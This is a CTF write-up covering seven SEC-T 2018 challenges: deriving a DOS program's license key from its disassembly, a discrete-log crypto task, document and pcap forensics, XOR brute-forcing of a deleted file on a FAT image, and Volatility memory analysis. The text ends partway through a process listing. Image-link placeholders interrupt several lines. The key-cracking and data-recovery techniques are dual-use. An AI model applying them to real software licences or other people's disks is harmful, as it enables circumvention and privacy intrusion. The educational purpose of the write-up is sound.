SEC-T CTF 2018 - Writeup

It's been about two years since I last joined in a CTF. I participated in SEC-T CTF 2018 as a member of 'insecure.' I solved 7 challanges and got 357 point in total.


Sanity check [Misc 51pts]

Flag is in the topic of #sect-ctf @ irc.freenode.net

The flag is written on the IRC.

Ez dos [Rev 51pts]

They told me you were old-school, great! Have a look at this license-server as a warm-up
Service: nc 7777 | nc rev.sect.ctf.rocks 7777
Download: ezdos.tar.gz

The file contains 'ezdos.com' and it's an executable for MS-DOS.

$ file ezdos.com
ezdos.com: COM executable for MS-DOS

Let's disassemble it.

$ objdump -D -b binary -M intel -mi386 -Maddr16,data16 ezdos.com > disasm

As I looked over the assembly, I found it reads a file named 'flag' and shows its contents when the license key is correct. The following part is where we enter thelicense key.

   c:   b9 00 00                mov    cx,0x0
   f:   bb 00 20                mov    bx,0x2000
  12:   ba 0d 00                mov    dx,0xd
  15:   b4 01                   mov    ah,0x1
  17:   cd 21                   int    0x21
  19:   3c 0a                   cmp    al,0xa
  1b:   74 08                   je     0x25
  1d:   88 07                   mov    BYTE PTR [bx],al
  1f:   43                      inc    bx
  20:   41                      inc    cx
  21:   39 d1                   cmp    cx,dx
  23:   75 f0                   jne    0x15

The license key we enter is stored at 0x2000.

  25:   b9 00 00                mov    cx,0x0
  28:   bb 00 20                mov    bx,0x2000
  2b:   b8 6b 02                mov    ax,0x26b2e:   ba 04 00                mov    dx,0x4
  31:51                      push   cx
  32:   31 c9                   xor    cx,cx
  34:   8a 0f                   mov    cl,BYTE PTR [bx]
  36:   93                      xchg   bx,ax
  37:   8a 2f                   mov    ch,BYTE PTR [bx]
  39:   93                      xchg   bx,ax
  3a:   38 e9                   cmp    cl,ch
  3c:   0f 85 87 00             jne    0xc7
  40:   59                      pop    cx
  41:   41                      inc    cx
  42:   43                      inc    bx
  43:   40                      inc    ax
  44:   39 d1                   cmp    cx,dx
  46:   75 e9                   jne    0x31

The address of the license key is loaded into BX and the value 0x26b is stored into AX. AX(0x26b) points to the data '1337SHELL'. This part is a loop and it compares the first 4 characters of the license key with '1337', so the license key begins with '1337'. And then, it checks whether the next character is '-' as shown below.

  48:   31 d2                   xor    dx,dx
  4a:   8a 17                   mov    dl,BYTE PTR [bx]
  4c:   80 fa 2d                cmp    dl,0x2d
  4f:   75 76                   jne    0xc7

After checking '1337-', it checks the rest of the key character by character. The next character of the key and the data('S') is loaded into CL and CH respectively and compares CLCH with 0x66, which means the correct character is 'S'^0x66='5'.

  51:   43                      inc    bx
  52:   31 c9                   xor    cx,cx
  54:   8a 0f                   mov    cl,BYTE PTR [bx]56:   93                      xchg   bx,ax
  57:   8a 2f                   mov    ch,BYTE PTR [bx]
  59:   93                      xchg   bx,ax
  5a:   30 e9                   xor    cl,ch
  5c:   80 f9 66                cmp    cl,0x66
  5f:   75 66                   jne    0xc7

By restoring the rest of the key in the same way, I found the correct key is '1337-5115'. Connecting to the server with nc and entering the key, I got the flag.

Matry0ska1 [Crypto 51pts]

Discrete logarithms are hard...
nc 4444 | nc crypto.sect.ctf.rocks 4444

The server tells a message like this:(("))  --- Gimme exponent pl0x
  /   \
 ( (@) )

p = 122488473105892538559311426995019720049507640328167439356838797108079051563759027212419257414247
g = 2
g^x = 49865908605708412727604941701889315223850522668539772014048529597300749129536778697051808702829

What we have to do is find x such that 2^{x}=y \mod p when y and p are given. The number [tex:gx] is variable but p is fixed. p can be factorized by using wolfram alpha. This means the discrete logarithm problem can be solved by applying the Pollard's rho algorithm for logarithms and the Pohlig-Hellman algorithm. However, I used the following service which solves the discrete logarithm problem.


It took a few tens of seconds to solve the problem. Sending the answer returned the flag.

Section6 [Misc 51pts]

This file was recovered from a scavenger.
Download: section6.tar.gz

The given file contains a zip file. I guessed it's a word document since it has some directories such as Documents or _rels. Though I tried to open it with Libre Office, the document seemed broken. The contents of a word document basically exist in the Document directory. I found a file Documents/6/Pages/6.fpage which contains the text data. Since the text goes for several lines, I wrote a simple Python codewhich formats the text data.

import re

out = ""
with open("6.fpage", "r") as f:for line in f:
        found = re.findall("UnicodeString\=\"(.+)\"", line)
        if found:
            text = found[0]
            print text

This program gave me the flag in ASCII art.

Puppetmatryoshka [Misc 51pts]

Greetings Kusanagi, your mission is to find Puppet Master.
Download: puppetmatryoshka.tar.gz

The given archive has a pcap file named matryoshka.

$ file matryoshka
matryoshka: tcpdump capture file (little-endian) - version 2.4 (Ethernet, capture length 262144)

I found TCP packets in which contains a file compressed by bzip2. I extracted and decompressed it, which created a disk dump.

$ file extracted
extracted: Linux rev 1.0 ext4 filesystem data, UUID=b72f5197-d45b-4079-b6e8-b9d1be583d67 (extents) (huge files)

There are some empty files and a 7-zip archive. I decompressed the archive and got an ASCII text file that seemed base64-encoded. Exhausting. Decoding the text made an Open Document file. Here is what is written in it:

Kusanagi, well done so far.

Try not to get compromized, we know he sometimes change metadata to cover his traces. Look for sign.

No flag here? It indicates the metadata, especially the signature isthe key. I looked into META-INF/documentsignatures.xml and found the flag finally.

Shredder [Misc 51pts]

We intercepted this floppy we believe belonged to the laughing man. We haven't found anything other than this shredder tool though.
Download: floppy.gz

The file floppy is a disk dump of FAT filesystem.

$ file floppy
floppy: DOS/MBR boot sector, code offset 0x3c+2, OEM-ID "mkfs.fat", root entries 112, sectors 2880 (volumes <=32 MB), sectors/FAT 9, sectors/track 18, serial number 0xb4d31337, unlabeled, FAT (12 bit), followed by FAT

I mounted the disk and found a 64-bit ELF named shredder. Analysing the binary with using IDA reveals how it works.

  1. Open and read a file
  2. Generate a random byte as a key
  3. XOR the whole file byte by byte with the key
  4. Repeat step 2 and 3 for several times (It depends on the argument)

No matter how many times it XORs the file, it's easy to recover the original one because we just have to try 255 keys. However, theproblem is we don't have the XORed file because it deletes the file before exiting. Deleting a file on FAT filesystem means just changing some bits on the disk so the file itself is not deleted. The given disk image is so small that we can easily find the deleted file. (The deleted file is located at 0x8800.) I wrote a Python code which tries to recover the file.

with open("floppy", "rb") as f:
    buf = f.read()[0x8800:]
buf = buf[:buf.index("\x00\x00\x00\x00")]
print repr(buf)

for key in range(0x100):
    out = ""
    for c in buf:
        out += chr(ord(c) ^ key)
    print out

As I looked over the output, I found the flag when the XOR key is 108.Batou [Misc 51pts]

We manage to collect a dump from Batou's computer. Try to find info/notes that can help us
Download: batou.tar.gz

The file batou is a vmss image because the file begins with "d2 be d2 be 08." Let's use volatility to analyse this memory dump. At first, we have to determine the profile. imageinfo tells us the profile.

$ vol.py -f batou imageinfo
INFO    : volatility.debug    : Determining profile based on KDBG search...
          Suggested Profile(s) : Win7SP1x64, Win7SP0x64, Win2008R2SP0x64, Win2008R2SP1x64_24000, Win2008R2SP1x64_23418, Win2008R2SP1x64, Win7SP1x64_24000, Win7SP1x64_23418
                     AS Layer1 : WindowsAMD64PagedMemory (Kernel AS)
                     AS Layer2 : VMWareAddressSpace (Unnamed AS)
                     AS Layer3 : FileAddressSpace (/home/ptr/workspace/ctf/sect/batou/batou)
                      PAE type : No PAE
                           DTB : 0x187000L
                          KDBG : 0xf800028480a0L
          Number of Processors : 2
     Image Type (Service Pack) : 1
                KPCR for CPU 0 : 0xfffff80002849d00L
                KPCR for CPU 1 : 0xfffff880009ea000L
             KUSER_SHARED_DATA : 0xfffff78000000000L
           Image date and time : 2018-09-11 04:17:17 UTC+0000
     Image local date and time : 2018-09-10 21:17:17 -0700

The process list can be obtained by psscan.$ vol.py -f batou --profile=Win7SP1x64 psscan
Offset(P)          Name                PID   PPID PDB                Time created                   Time exited
--- --- --- --- --- --- ---
0x000000003de683c0 dwm.exe            1660    792 0x0000000014479000 2018-09-11 04:16:05 UTC+0000
0x000000003de72b30 explorer.exe       1720   1652 0x00000000154e2000 2018-09-11 04:16:05 UTC+0000
0x000000003df57b30 SearchProtocol     1040   1988 0x000000000d026000 2018-09-11 04:16:13 UTC+0000
0x000000003df77b30 SearchFilterHo     1140   1988 0x000000000d92f000 2018-09-11 04:16:13 UTC+0000
0x000000003df9f100 SearchProtocol     1340   1988 0x00000000106ca000 2018-09-11 04:16:13 UTC+0000
0x000000003dfaf4a0 iexplore.exe       1536   1720 0x000000000c130000 2018-09-11 04:16:15 UTC+0000
0x000000003dfe54f0 iexplore.exe       1636   1536 0x000000000be44000 2018-09-11 04:16:17 UTC+0000
0x000000003dfef570 StikyNot.exe       1872   1720 0x0000000006f04000 2018-09-11 04:16:20 UTC+0000
0x000000003e08d3a0 taskhost.exe       1728    460 0x0000000014187000 2018-09-11 04:16:05 UTC+0000
0x000000003e1da210 notepad.exe         204   1720 0x0000000028c02000 2018-09-11 04:16:31 UTC+0000
0x000000003e22bb30 svchost.exe         748    460 0x000000001ba0c000 2018-09-1104:15:34 UTC+0000
0x000000003e23eb30 svchost.exe         792    460 0x000000001b619000 2018-09-11 04:15:34 UTC+0000
0x000000003e264890 svchost.exe         820    460 0x000000001b31f000 2018-09-11 04:15:34 UTC+0000
0x000000003e2b32a0 svchost.exe         944    460 0x000000001bf2a000 2018-09-11 04:15:35 UTC+0000
0x000000003e2eb890 svchost.exe         212    460 0x000000001bb38000 2018-09-11 04:15:35 UTC+0000
0x000000003e367b30 spoolsv.exe         300    460 0x000000001b064000 2018-09-11 04:15:35 UTC+0000
0x000000003e379b30 svchost.exe         968    460 0x000000001b8c6000 2018-09-11 04:15:36 UTC+0000
0x000000003e4de060 csrss.exe           316    308 0x000000002004a000 2018-09-11 04:15:32 UTC+0000
0x000000003e4f0b30 lsass.exe           468    372 0x000000001ea74000 2018-09-11 04:15:33 UTC+0000
